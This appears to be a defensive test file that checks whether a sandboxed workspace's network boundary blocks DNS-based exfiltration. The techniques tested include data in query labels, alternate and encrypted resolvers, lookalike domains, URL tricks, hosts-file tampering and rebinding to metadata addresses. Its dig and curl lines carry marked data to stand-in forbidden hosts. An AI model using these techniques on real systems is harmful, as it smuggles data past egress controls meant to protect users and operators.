/** From inside a workspace: what questions for names carry out, and what answers to them lead to. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  ALLOWED,
  AS_ADMIN,
  AS_ROOT,
  type Attack,
  Battery,
  FORBIDDEN,
  isAllowed,
  isLookup,
  METADATA,
} from './battery.ts';

const PRIVATE = '10.0.0.5';
/** Cyrillic а, for a Latin one. */
const HOMOGLYPH = 'xn--llowed-2nf.test';

const battery = new Battery({
  title: 'names',
  policy: `allow:
  - { domain: [allowed.test, "*.wild.test", rebinding.test, alias.test, mixed.test, mixed6.test, silent.test] }
`,
  attacks: 'names.py',
  names: {
    'allowed.test': [[['A', ALLOWED]]],
    '*.wild.test': [[['A', ALLOWED]]],
    'wild.test': [[['A', FORBIDDEN]]],
    'rebinding.test': [[['A', ALLOWED]], [['A', METADATA]]],
    'alias.test': [
      [
        ['CNAME', 'inner.test'],
        ['A', PRIVATE],
      ],
    ],
    'mixed.test': [
      [
        ['A', PRIVATE],
        ['A', METADATA],
        ['A', ALLOWED],
      ],
    ],
    'mixed6.test': [
      [
        ['AAAA', 'fd00:ec2::254'],
        ['A', ALLOWED],
      ],
    ],
    // What is asked for below these leads to where nothing of the workspace's may arrive.
    '*.forbidden.test': [[['A', FORBIDDEN]]],
    'forbidden.test': [[['A', FORBIDDEN]]],
    '*.allowed.test': [[['A', FORBIDDEN]]],
    'evilallowed.test': [[['A', FORBIDDEN]]],
    'allowed.test.evil.test': [[['A', FORBIDDEN]]],
    'allowed-test.test': [[['A', FORBIDDEN]]],
    [HOMOGLYPH]: [[['A', FORBIDDEN]]],
    'cloudflare-dns.com': [[['A', '104.16.248.249']]],
    'dns.google': [[['A', '8.8.8.8']]],
  },
});

const TYPES = ['A', 'AAAA', 'TXT', 'NULL', 'SRV', 'HTTPS', 'SVCB', 'MX', 'NS', 'CNAME', 'ANY', 'TYPE65400'];

const QUESTIONS: readonly Attack[] = [
  ...TYPES.map(
    (type): Attack => ({
      name: `data in a label, asked for ${type}`,
      call: (mark) => ({ attack: 'dig', arguments: `MARK.forbidden.test ${type}`, mark }),
    }),
  ),
  {
    name: 'data in a label below an allowed name',
    call: (mark) => ({ attack: 'dig', arguments: 'MARK.allowed.test A', mark }),
  },
  {
    name: 'data in a label below an allowed wildcard, asked for alone',
    call: (mark) => ({ attack: 'dig', arguments: 'MARK.wild.test A', mark }),
  },
  {
    name: 'data in the question of getaddrinfo(3)',
    call: (mark) => ({ attack: 'look_up', name: 'MARK.forbidden.test', mark }),
  },
  {
    name: 'a question over TCP',
    call: (mark) => ({ attack: 'dig', arguments: '+tcp MARK.forbidden.test TXT', mark }),
  },
  {
    name: 'a question with EDNS options',
    call: (mark) => ({
      attack: 'dig',
      arguments: '+ednsopt=65001:6d61726b +nsid +subnet=203.0.113.0/24 MARK.forbidden.test',
      mark,
    }),
  },
  {
    name: 'a zone transfer',
    call: (mark) => ({ attack: 'dig', arguments: 'MARK.forbidden.test AXFR', mark }),
    uncontrolled: 'refused by the engine’s own server',
  },
  {
    name: 'a reverse question',
    call: (mark) => ({ attack: 'dig', arguments: '-x 45.79.3.1', mark }),
    uncontrolled: 'it has no place for data',
  },
  ...['1.1.1.1', '9.9.9.9', FORBIDDEN].flatMap((server): readonly Attack[] => [
    {
      name: `another resolver, @${server}`,
      call: (mark) => ({ attack: 'dig', arguments: `@${server} MARK.forbidden.test`, mark }),
      to: server,
    },
    {
      name: `another resolver over TCP, @${server}`,
      call: (mark) => ({ attack: 'dig', arguments: `+tcp @${server} MARK.forbidden.test`, mark }),
      to: server,
    },
  ]),
  {
    name: 'another resolver at another port',
    call: (mark) => ({ attack: 'dig', arguments: `-p 5353 @${FORBIDDEN} MARK.forbidden.test`, mark }),
    to: FORBIDDEN,
  },
  { name: 'DNS over TLS', call: (mark) => ({ attack: 'dot', to: '1.1.1.1', mark }), to: '1.1.1.1' },
  {
    name: 'DNS over QUIC',
    call: (mark) => ({ attack: 'datagram', to: '1.1.1.1', port: 853, mark }),
    to: '1.1.1.1',
  },
  {
    name: 'DNS over HTTPS at cloudflare-dns.com',
    call: (mark) => ({
      attack: 'curl',
      arguments: "'https://cloudflare-dns.com/dns-query?name=MARK.forbidden.test'",
      mark,
    }),
    to: '104.16.248.249',
    says: /^0: 403|./,
  },
  {
    name: 'DNS over HTTPS at dns.google',
    call: (mark) => ({
      attack: 'curl',
      arguments: "'https://dns.google/resolve?name=MARK.forbidden.test'",
      mark,
    }),
    to: '8.8.8.8',
  },
  {
    name: 'DNS over HTTPS at an address',
    call: (mark) => ({
      attack: 'curl',
      arguments: "'https://1.1.1.1/dns-query?name=MARK.forbidden.test'",
      mark,
    }),
    to: '1.1.1.1',
  },
  {
    name: 'a denied name is not looked up, HTTP',
    call: (mark) => ({ attack: 'get', to: 'MARK.forbidden.test', mark }),
    to: FORBIDDEN,
  },
  {
    name: 'a denied name is not looked up, HTTPS',
    call: (mark) => ({ attack: 'get_tls', to: 'MARK.forbidden.test', mark }),
    to: FORBIDDEN,
  },
  {
    name: 'a denied Host is not looked up',
    call: (mark) => ({ attack: 'get', to: 'allowed.test', host: 'MARK.forbidden.test', mark }),
  },
  {
    name: 'a denied server name is not looked up',
    call: (mark) => ({ attack: 'get_tls', to: 'allowed.test', name: 'MARK.forbidden.test', mark }),
  },
];

const MALFORMED = [
  'a pointer to itself',
  'two pointers to each other',
  'a pointer beyond the end',
  'CR, LF and NUL in a label',
  'a name of 300 octets',
  'a label without end',
  'an answer',
  'an update',
  '65,535 questions',
  'nothing at all',
];
const NO_NAME_SERVER = 'it is the boundary’s server that is attacked';
const MESSAGES: readonly Attack[] = [
  ...MALFORMED.map(
    (what): Attack => ({
      name: `malformed: ${what}`,
      call: (mark) => ({ attack: 'malformed', what, mark }),
      says: /^alive$/,
      uncontrolled: NO_NAME_SERVER,
    }),
  ),
  {
    name: 'DNS over TCP, an octet at a time',
    call: (mark) => ({ attack: 'in_pieces', mark }),
    says: /^alive$/,
    uncontrolled: NO_NAME_SERVER,
  },
  {
    name: 'questions that claim to come from the server itself',
    call: (mark) => ({ attack: 'to_itself', mark }),
    says: /^alive$/,
    uncontrolled: NO_NAME_SERVER,
  },
];

const lookalike = (name: string, host: string): Attack => ({
  name,
  call: (mark) => ({ attack: 'get_tls', to: host, mark }),
  to: FORBIDDEN,
});
const LOOKALIKES: readonly Attack[] = [
  lookalike('a name that ends like an allowed one', 'evilallowed.test'),
  lookalike('a name that begins like an allowed one', 'allowed.test.evil.test'),
  lookalike('a name with a dash for the dot', 'allowed-test.test'),
  lookalike('the name that a wildcard stands below', 'wild.test'),
  lookalike('a name with a letter of another script', HOMOGLYPH),
  {
    name: 'an allowed name as the user of a URL',
    call: (mark) => ({ attack: 'curl', arguments: "'http://allowed.test@forbidden.test/MARK'", mark }),
    to: FORBIDDEN,
  },
  {
    name: 'an allowed name behind # in a URL',
    call: (mark) => ({ attack: 'curl', arguments: "'http://forbidden.test/MARK#@allowed.test/'", mark }),
    to: FORBIDDEN,
  },
];

const FILES: readonly Attack[] = [
  {
    name: '/etc/hosts says that an allowed name is elsewhere',
    call: (mark) => ({
      attack: 'with_file',
      path: '/etc/hosts',
      text: `${FORBIDDEN} allowed.test\n`,
      runs: 'get_tls',
      to: 'allowed.test',
      mark,
    }),
    to: FORBIDDEN,
  },
  {
    name: '/etc/resolv.conf names another resolver',
    call: (mark) => ({
      attack: 'with_file',
      path: '/etc/resolv.conf',
      text: 'nameserver 9.9.9.9\n',
      runs: 'look_up',
      name: 'MARK.forbidden.test',
      mark,
    }),
    to: '9.9.9.9',
  },
  {
    name: 'a name server of one’s own says that an allowed name is elsewhere',
    call: (mark) => ({ attack: 'own_name_server', to_address: FORBIDDEN, to: 'allowed.test', mark }),
    to: FORBIDDEN,
  },
  {
    name: 'a forbidden name, said at an allowed name’s address',
    call: (mark) => ({ attack: 'at_address_of', name: 'allowed.test', host: 'forbidden.test', mark }),
    to: ALLOWED,
  },
];

const answered = (name: string, host: string, to: string, says: RegExp): Attack => ({
  name,
  call: (mark) => ({ attack: 'get', to: host, mark }),
  to,
  permits: isAllowed,
  says,
});
const ANSWERS: readonly Attack[] = [
  {
    ...answered('an allowed name that is an alias of a private address', 'alias.test', PRIVATE, /^403$/),
    permits: isLookup,
  },
  {
    ...answered(
      'an allowed name with public, private and metadata addresses',
      'mixed.test',
      ALLOWED,
      /^(403|200 reached)$/,
    ),
  },
  {
    ...answered(
      'an allowed name with IPv6’s metadata and a public address',
      'mixed6.test',
      ALLOWED,
      /^(403|200 reached)$/,
    ),
  },
];

const DOWN: Attack = {
  name: 'an allowed name whose server does not answer',
  call: (mark) => ({ attack: 'get', to: 'silent.test', mark, patience: 14 }),
  permits: isLookup,
  says: /^50[24]$/,
  within: 14_000,
  uncontrolled: 'it has no address',
};

const PASSING: readonly Attack[] = [
  {
    name: 'to compare: an allowed name in capitals, with a dot at its end',
    call: (mark) => ({ attack: 'get', to: 'ALLOWED.test.', mark }),
    to: ALLOWED,
    passes: true,
    says: /^200 reached$/,
  },
  {
    name: 'not closed: data in a name below an allowed wildcard, once it is connected to',
    call: (mark) => ({ attack: 'get', to: 'MARK.wild.test', mark }),
    to: ALLOWED,
    passes: true,
    says: /^200 reached$/,
  },
];

test('a name is looked up for a first connection, and leads to a public address', async () => {
  const { outcome, arrivals } = await battery.during('root', {
    call: (mark) => ({ attack: 'get', to: 'rebinding.test', mark }),
  });
  assert.equal(outcome.said, '200 reached');
  assert.ok(
    arrivals.every((one) => isAllowed(one, battery.setting)),
    JSON.stringify(arrivals),
  );
});

battery.declare(
  [...PASSING, ...QUESTIONS, ...MESSAGES, ...LOOKALIKES, ...FILES, ...ANSWERS, DOWN],
  [AS_ROOT, AS_ADMIN],
);

battery.declareTest(
  'an allowed name that leads to metadata from its second lookup on',
  AS_ROOT.column,
  '0 bytes',
  async () => {
    // The first answer is kept for half a minute.
    for (const deadline = performance.now() + 60_000; ; ) {
      const { outcome, arrivals } = await battery.during('root', {
        call: (mark) => ({ attack: 'get', to: 'rebinding.test', mark }),
      });
      assert.ok(
        arrivals.every((one) => isAllowed(one, battery.setting)),
        JSON.stringify(arrivals),
      );
      if (outcome.said !== '200 reached') {
        assert.equal(outcome.said, '403');
        return;
      }
      assert.ok(performance.now() < deadline, 'the name is not looked up again');
      await new Promise((resolve) => setTimeout(resolve, 500));
    }
  },
);
